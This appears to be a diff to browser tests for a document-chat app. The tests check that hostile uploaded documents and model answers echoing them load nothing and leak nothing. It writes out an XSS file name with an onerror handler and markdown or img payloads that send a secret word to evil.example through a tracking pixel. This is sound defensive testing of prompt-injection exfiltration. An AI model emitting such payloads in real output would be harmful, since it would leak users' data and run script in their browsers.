@@ -12,9 +12,10 @@ from tests.browser.library import document, hold, upload
 from tests.browser.ollama import StandIn
 from tests.browser.test_chat import answered, ask
 from tests.browser.test_reach import FITS, contrast
-from tests.browser.test_untrusted_text import HOSTILE
+from tests.browser.test_untrusted_text import ACTIVE, HOSTILE, at_home
 
 QUESTION = "When is the dome closed?"
+HOSTILE_NAME = "<img src=x onerror=alert(1)>.txt"
 REFUSED = "Who painted the Mona Lisa?"
 
 
@@ -214,14 +215,31 @@ def test_an_answer_without_sources_is_marked_and_can_be_asked_for(written: Page,
 
 
 def test_a_hostile_document_and_model_leak_nothing(written: Page, layer2_with_model: str, ollama: StandIn) -> None:
-    requested: list[str] = []
-    written.context.on("request", lambda request: requested.append(request.url))
-    upload(written, text("<img src=x onerror=alert(1)>.md", f"The secret word is xylograph.\n\n{HOSTILE}"))
     ollama.say(f"The word is xylograph [1].\n\n{HOSTILE}")
-    ask(written, "What is the secret word?")
-    answered(written)
-    written.locator(".cite").first.click()
-    expect(written.locator("mark")).to_be_visible()
-    assert not [url for url in requested if "evil" in url]
-    assert written.locator("article a, article img, #drawer a, #drawer img, #sidebar li img").count() == 0
+    with at_home(written):
+        upload(written, text(HOSTILE_NAME, f"The secret word is xylograph.\n\n{HOSTILE}"))
+        ask(written, "What is the secret word?")
+        answered(written)
+        written.locator(".cite").first.click()
+        expect(written.locator("mark")).to_be_visible()
+        expect(written.locator("#drawer")).to_contain_text("![tracking pixel](http://evil.example/pixel.png?q=secret)")
+    assert active(written) == 0
     assert httpx2.get(layer2_with_model).headers["content-security-policy"].startswith("default-src 'none'")
+
+
+def test_a_hostile_document_as_the_answer_itself_leaks_nothing(page: Page) -> None:
+    word = "The secret word is ![xylograph](http://evil.example/pixel.png?q=secret) <img src=http://evil.example/x>."
+    with at_home(page):
+        upload(page, text(HOSTILE_NAME, f"{word}\n\n{HOSTILE}"))
+        ask(page, "What is the secret word?")
+        answered(page)
+        expect(page.get_by_role("article").last).to_contain_text("xylograph (http://evil.example/pixel.png?q=secret)")
+        document(page, HOSTILE_NAME).get_by_role("button").first.click()
+        expect(page.get_by_role("dialog", name=HOSTILE_NAME)).to_contain_text("a kind offer")
+    assert active(page) == 0
+
+
+def active(page: Page) -> int:
+    """So many elements could load, send or run something, of those that a document or an answer had a part in."""
+    places = ("article .body", "article .sources", "#drawer .text-part", "#sidebar .documents")
+    return sum(page.locator(place).locator(ACTIVE).count() for place in places)
